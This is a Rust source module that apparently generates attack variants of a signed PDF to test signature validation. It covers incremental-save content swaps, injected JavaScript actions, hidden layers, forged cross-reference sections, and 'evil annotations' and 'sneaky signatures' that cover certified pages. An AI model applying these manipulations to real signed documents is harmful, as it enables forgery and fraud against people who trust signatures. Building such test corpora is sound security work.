//! Incremental saving: updates that follow every rule of PDF and change what is seen, and the evil annotation and
//! sneaky signature on certified documents.

use yinxin::pdf::{Dictionary, Object, Reference, Stream, StreamData, Update};

use super::dictionary::stream;
use super::target::Target;
use super::{Attack, Error};

/// What is to be seen instead.
pub(super) const OTHER: &[u8] = b"0 0 0 rg 0 0 999 999 re f";

/// A packet of metadata by which readers show another title.
const ANOTHER_TITLE: &str = "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' \
     xmlns:dc='http://purl.org/dc/elements/1.1/'><rdf:Description rdf:about=''><dc:title><rdf:Alt>\
     <rdf:li xml:lang='x-default'>Another</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF>";

/// Updates of every kind.
pub(crate) fn all(signed: &[u8]) -> Result<Vec<Attack>, Error> {
    let target = Target::read(signed)?;
    let mut attacks = content(&target)?;
    attacks.extend(structure(&target)?);
    attacks.extend(form(&target)?);
    attacks.extend(annotations(&target)?);
    attacks.extend(sections(&target));
    Ok(attacks)
}

fn saved(target: &Target, name: &str, write: impl FnOnce(&mut Update) -> Result<(), Error>) -> Result<Attack, Error> {
    Ok(Attack::new(
        format!("incremental-saving-{name}"),
        target.updated(write)?,
    ))
}

fn put(update: &mut Update, object: Reference, entries: Dictionary) -> Result<(), Error> {
    Ok(update.put(object, &Object::Dictionary(entries))?)
}

/// Another content, other resources, other pages.
fn content(target: &Target) -> Result<Vec<Attack>, Error> {
    let page = || target.page_entries.clone();
    Ok(vec![
        saved(target, "page-content", |update| {
            Ok(update.put(target.content, &stream(OTHER))?)
        })?,
        saved(target, "page-content-added", |update| {
            let added = update.add(&stream(OTHER))?;
            let parts = [target.content, added].map(Object::Reference).to_vec();
            put(update, target.page, page().with("Contents", Object::Array(parts)))
        })?,
        saved(target, "page-resources", |update| {
            put(
                update,
                target.page,
                page().with("Resources", Object::Dictionary(Dictionary::new())),
            )
        })?,
        saved(target, "page-turned", |update| {
            put(update, target.page, page().with("Rotate", Object::Integer(180)))
        })?,
        saved(target, "page-box", |update| {
            let corners = [0, 0, 9, 9].map(Object::Integer).to_vec();
            put(update, target.page, page().with("MediaBox", Object::Array(corners)))
        })?,
        // Some readers take an entry that is null for one that hides its parent's.
        saved(target, "page-null", |update| {
            let absent = ["Resources", "CropBox", "Rotate"].into_iter();
            let absent = absent.filter(|key| target.page_entries.get(key).is_none());
            put(
                update,
                target.page,
                absent.fold(page(), |page, key| page.with(key, Object::Null)),
            )
        })?,
        saved(target, "page-added", |update| {
            let content = update.add(&stream(OTHER))?;
            let added = page().with("Contents", Object::Reference(content));
            let added = update.add(&Object::Dictionary(added))?;
            put(update, target.pages, pages(&[target.page, added]))
        })?,
        saved(target, "pages-removed", |update| put(update, target.pages, pages(&[])))?,
    ])
}

fn pages(kids: &[Reference]) -> Dictionary {
    let count = i64::try_from(kids.len()).unwrap_or(0);
    Dictionary::new()
        .with("Type", Object::name("Pages"))
        .with("Count", Object::Integer(count))
        .with(
            "Kids",
            Object::Array(kids.iter().copied().map(Object::Reference).collect()),
        )
}

/// Another catalogue, scripts, layers, trailers.
fn structure(target: &Target) -> Result<Vec<Attack>, Error> {
    let catalog = || target.catalog.clone();
    let script = || {
        Dictionary::new()
            .with("S", Object::name("JavaScript"))
            .with("JS", Object::String(b"this.pageNum = 0".to_vec()))
    };
    let mut attacks = vec![
        saved(target, "open-action", |update| {
            put(
                update,
                target.root,
                catalog().with("OpenAction", Object::Dictionary(script())),
            )
        })?,
        saved(target, "script", |update| {
            let action = update.add(&Object::Dictionary(script()))?;
            let names = Object::Array(vec![Object::String(b"a".to_vec()), Object::Reference(action)]);
            let tree = Dictionary::new().with("Names", names);
            let names = Dictionary::new().with("JavaScript", Object::Dictionary(tree));
            put(update, target.root, catalog().with("Names", Object::Dictionary(names)))
        })?,
        saved(target, "hidden-layer", |update| {
            let group = Dictionary::new().with("Type", Object::name("OCG"));
            let group = update.add(&Object::Dictionary(group.with("Name", Object::String(b"a".to_vec()))))?;
            let groups = Object::Array(vec![Object::Reference(group)]);
            let state = Dictionary::new().with("OFF", groups.clone());
            let layers = Dictionary::new()
                .with("OCGs", groups)
                .with("D", Object::Dictionary(state));
            put(
                update,
                target.root,
                catalog().with("OCProperties", Object::Dictionary(layers)),
            )
        })?,
        saved(target, "page-tree", |update| {
            let content = update.add(&stream(OTHER))?;
            let page = target.page_entries.clone().with("Contents", Object::Reference(content));
            let page = update.add(&Object::Dictionary(page))?;
            let tree = update.add(&Object::Dictionary(pages(&[page])))?;
            put(update, target.root, catalog().with("Pages", Object::Reference(tree)))
        })?,
        saved(target, "content-as-certificate", |update| {
            update.put(target.content, &stream(&[0x30, 6, 0x30, 0, 0x30, 0, 3, 0]))?;
            let certificates = Object::Array(vec![Object::Reference(target.content)]);
            let store = Dictionary::new().with("Certs", certificates);
            put(update, target.root, catalog().with("DSS", Object::Dictionary(store)))
        })?,
        saved(target, "object-of-no-use", |update| {
            update.add(&stream(OTHER))?;
            Ok(())
        })?,
        saved(target, "title", |update| {
            if let Some(information) = target.trailer.get("Info").and_then(Object::as_reference) {
                let entries = Dictionary::new().with("Title", Object::String(b"Another".to_vec()));
                return put(update, information, entries);
            }
            update.add(&Object::String(b"Another".to_vec()))?;
            Ok(())
        })?,
    ];
    attacks.push(saved(target, "title-in-metadata", |update| {
        let dictionary = Dictionary::new()
            .with("Type", Object::name("Metadata"))
            .with("Subtype", Object::name("XML"));
        let data = StreamData::Held(ANOTHER_TITLE.as_bytes().to_vec());
        let metadata = update.add(&Object::Stream(Stream { dictionary, data }))?;
        put(
            update,
            target.root,
            catalog().with("Metadata", Object::Reference(metadata)),
        )
    })?);
    let next = target.next_number();
    let other = format!(
        "<</Type/Catalog/Pages {} /AcroForm<</Fields[{}]>>>>",
        target.pages, target.field
    );
    let trailer = format!("/Root {next} 0 R /Prev {}", target.startxref);
    attacks.push(Attack::new(
        "incremental-saving-second-catalogue",
        target.appended(&[(next, &other)], &trailer),
    ));
    Ok(attacks)
}

/// The form: the signature's field and others.
fn form(target: &Target) -> Result<Vec<Attack>, Error> {
    let field = || target.field_entries.clone();
    let with_form = |update: &mut Update, form: Dictionary| put_form(update, target, form);
    Ok(vec![
        saved(target, "form-gone", |update| {
            let mut catalog = target.catalog.clone();
            catalog.remove("AcroForm");
            put(update, target.root, catalog)
        })?,
        saved(target, "fields-gone", |update| {
            with_form(update, target.form.clone().with("Fields", Object::Array(Vec::new())))
        })?,
        saved(target, "appearances-needed", |update| {
            with_form(
                update,
                target.form.clone().with("NeedAppearances", Object::Boolean(true)),
            )
        })?,
        saved(target, "signature-looks-otherwise", |update| {
            let picture = update.add(&appearance())?;
            let states = Dictionary::new().with("N", Object::Reference(picture));
            put(update, target.field, field().with("AP", Object::Dictionary(states)))
        })?,
        saved(target, "signature-moved", |update| {
            let corners = [9, 9, 500, 500].map(Object::Integer).to_vec();
            put(update, target.field, field().with("Rect", Object::Array(corners)))
        })?,
        saved(target, "field-renamed", |update| {
            put(
                update,
                target.field,
                field().with("T", Object::String(b"Other".to_vec())),
            )
        })?,
        saved(target, "text-field-added", |update| {
            let picture = update.add(&appearance())?;
            let entries = widget("Tx", "Amount", target.page, picture).with("V", Object::String(b"9".to_vec()));
            let added = update.add(&Object::Dictionary(entries))?;
            add_to_page(update, target, added)?;
            with_form(update, with_field(target, added))
        })?,
        Attack::new(
            "sneaky-signature-unsigned-stamp",
            target.updated(|update| {
                let picture = update.add(&appearance())?;
                let mut entries = widget("Sig", "Approval", target.page, picture);
                entries.set("MK", Object::Dictionary(Dictionary::new()));
                entries.set(
                    "A",
                    Object::Dictionary(Dictionary::new().with("S", Object::name("URI"))),
                );
                let added = update.add(&Object::Dictionary(entries))?;
                add_to_page(update, target, added)?;
                with_form(update, with_field(target, added))
            })?,
        ),
        Attack::new(
            "sneaky-signature-empty-cover",
            target.updated(|update| {
                let picture = update.add(&appearance())?;
                let entries = widget("Sig", "Approval", target.page, picture);
                let added = update.add(&Object::Dictionary(entries))?;
                add_to_page(update, target, added)?;
                with_form(update, with_field(target, added))
            })?,
        ),
        Attack::new(
            "sneaky-signature-of-nobody",
            target.updated(|update| {
                let picture = update.add(&appearance())?;
                let value = target.signature_entries.clone();
                let value = update.add(&Object::Dictionary(value))?;
                let entries = widget("Sig", "Approval", target.page, picture);
                let added = update.add(&Object::Dictionary(entries.with("V", Object::Reference(value))))?;
                add_to_page(update, target, added)?;
                with_form(update, with_field(target, added))
            })?,
        ),
    ])
}

/// Puts a form in the place of the document's.
pub(crate) fn put_form(update: &mut Update, target: &Target, form: Dictionary) -> Result<(), Error> {
    let form = Object::Dictionary(form);
    match target.catalog.get("AcroForm").and_then(Object::as_reference) {
        Some(holder) => Ok(update.put(holder, &form)?),
        None => put(update, target.root, target.catalog.clone().with("AcroForm", form)),
    }
}

/// The form with one more field.
pub(crate) fn with_field(target: &Target, added: Reference) -> Dictionary {
    let fields = target.form.get("Fields").and_then(Object::as_array).unwrap_or_default();
    let mut fields = fields.to_vec();
    fields.push(Object::Reference(added));
    target.form.clone().with("Fields", Object::Array(fields))
}

/// A field merged with its widget, over most of the page.
pub(crate) fn widget(kind: &str, name: &str, page: Reference, picture: Reference) -> Dictionary {
    let states = Dictionary::new().with("N", Object::Reference(picture));
    annotation("Widget", page)
        .with("FT", Object::name(kind))
        .with("T", Object::String(name.as_bytes().to_vec()))
        .with("AP", Object::Dictionary(states))
}

/// An annotation over most of the page.
pub(crate) fn annotation(subtype: &str, page: Reference) -> Dictionary {
    let corners = [20, 20, 500, 700].map(Object::Integer).to_vec();
    Dictionary::new()
        .with("Type", Object::name("Annot"))
        .with("Subtype", Object::name(subtype))
        .with("F", Object::Integer(4))
        .with("P", Object::Reference(page))
        .with("Rect", Object::Array(corners))
}

/// A form that covers what is below it.
pub(crate) fn appearance() -> Object {
    let corners = [0, 0, 480, 680].map(Object::Integer).to_vec();
    Object::Stream(Stream {
        dictionary: Dictionary::new()
            .with("Type", Object::name("XObject"))
            .with("Subtype", Object::name("Form"))
            .with("BBox", Object::Array(corners)),
        data: StreamData::Held(OTHER.to_vec()),
    })
}

/// Puts an annotation at the end of the first page's list.
pub(crate) fn add_to_page(update: &mut Update, target: &Target, added: Reference) -> Result<(), Error> {
    let known = match target.page_entries.get("Annots") {
        Some(Object::Array(annotations)) => annotations.clone(),
        Some(_) => return Err("a list of annotations that is an object of its own".into()),
        None => Vec::new(),
    };
    let annotations = [known, vec![Object::Reference(added)]].concat();
    put(
        update,
        target.page,
        target.page_entries.clone().with("Annots", Object::Array(annotations)),
    )
}

/// Annotations that cover the page or imitate its content, whatever the certification says of notes.
fn annotations(target: &Target) -> Result<Vec<Attack>, Error> {
    let mut attacks = Vec::new();
    for subtype in [
        "FreeText",
        "Stamp",
        "Redact",
        "Square",
        "Ink",
        "Highlight",
        "Link",
        "FileAttachment",
    ] {
        let bytes = target.updated(|update| {
            let picture = update.add(&appearance())?;
            let states = Dictionary::new().with("N", Object::Reference(picture));
            let entries = annotation(subtype, target.page)
                .with("Contents", Object::String(b"9".to_vec()))
                .with("AP", Object::Dictionary(states));
            let added = update.add(&Object::Dictionary(entries))?;
            add_to_page(update, target, added)
        })?;
        attacks.push(Attack::new(format!("evil-annotation-{subtype}"), bytes));
    }
    let bytes = target.updated(|update| {
        let action = Dictionary::new()
            .with("S", Object::name("URI"))
            .with("URI", Object::String(b"https://example.org/".to_vec()));
        let entries = annotation("Text", target.page).with("A", Object::Dictionary(action));
        let added = update.add(&Object::Dictionary(entries))?;
        add_to_page(update, target, added)
    })?;
    attacks.push(Attack::new("evil-annotation-that-acts", bytes));
    Ok(attacks)
}

/// Cross-reference sections that lead elsewhere without one new object in the ordinary place.
fn sections(target: &Target) -> Vec<Attack> {
    let content = target.content.number;
    let other = format!(
        "<</Length {}>>\nstream\n{}\nendstream",
        OTHER.len(),
        String::from_utf8_lossy(OTHER)
    );
    let following = target.following();
    let end = target.bytes.len();
    let named = |name: &str, bytes| Attack::new(format!("sections-{name}"), bytes);
    let by_hand = |section: String| {
        let mut bytes = target.bytes.clone();
        bytes.extend(format!("{section}startxref\n{end}\n%%EOF\n").bytes());
        bytes
    };
    let size = target.next_number();
    vec![
        named(
            "object-freed",
            by_hand(format!(
                "xref\n{content} 1\n0000000000 00001 f \ntrailer\n<</Size {size} {following}>>\n"
            )),
        ),
        named(
            "object-at-another-offset",
            by_hand(format!(
                "xref\n{content} 1\n{:010} 00000 n \ntrailer\n<</Size {size} {following}>>\n",
                9
            )),
        ),
        named(
            "leads-to-itself",
            by_hand(format!(
                "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size {size} /Root {} /Prev {end}>>\n",
                target.root
            )),
        ),
        named(
            "leads-forward",
            by_hand(format!(
                "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size {size} /Root {} /Prev {}>>\n",
                target.root,
                end + 5
            )),
        ),
        named(
            "without-what-came-before",
            target.appended(&[(content, &other)], &format!("/Root {}", target.root)),
        ),
        named("hidden-in-a-stream", hybrid(target, &other)),
        named(
            "negative-size",
            by_hand(format!(
                "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size -{size} {following}>>\n"
            )),
        ),
        named("end-far-from-its-section", {
            let mut bytes = target.appended(&[], &following);
            let blanks = vec![b' '; 5000];
            let mark = bytes.len() - "%%EOF\n".len();
            bytes.splice(mark..mark, blanks);
            bytes
        }),
        named("objects-inside-another", {
            let inside = format!(
                "\n{content} 0 obj\n{other}\nendobj\ntrailer\n<</Root {}>>\n",
                target.root
            );
            let stamp = format!("<</Length {}>>\nstream\n{inside}\nendstream", inside.len());
            target.appended(&[(size, &stamp)], &following)
        }),
        named(
            "encrypted",
            target.appended(&[], &format!("{following} /Encrypt<</Filter/Standard/V 1>>")),
        ),
    ]
}

/// An update whose table lists nothing and whose stream of hidden objects replaces the content.
fn hybrid(target: &Target, other: &str) -> Vec<u8> {
    let mut bytes = target.bytes.clone();
    let content = (target.content.number, bytes.len());
    bytes.extend(format!("{} 0 obj\n{other}\nendobj\n", content.0).bytes());
    let hidden = bytes.len();
    let number = target.next_number();
    let row = format!("01{:08x}00", content.1);
    let entries = format!("/Type/XRef/W[1 4 1]/Index[{} 1]/Size {}", content.0, number + 1);
    let section = format!(
        "<<{entries}/Filter/ASCIIHexDecode/Length {}>>stream\n{row}\nendstream",
        row.len()
    );
    bytes.extend(format!("{number} 0 obj\n{section}\nendobj\n").bytes());
    let start = bytes.len();
    let trailer = format!("<</Size {} {} /XRefStm {hidden}>>", number + 1, target.following());
    bytes.extend(format!("xref\n0 1\n0000000000 65535 f \ntrailer\n{trailer}\nstartxref\n{start}\n%%EOF\n").bytes());
    bytes
}
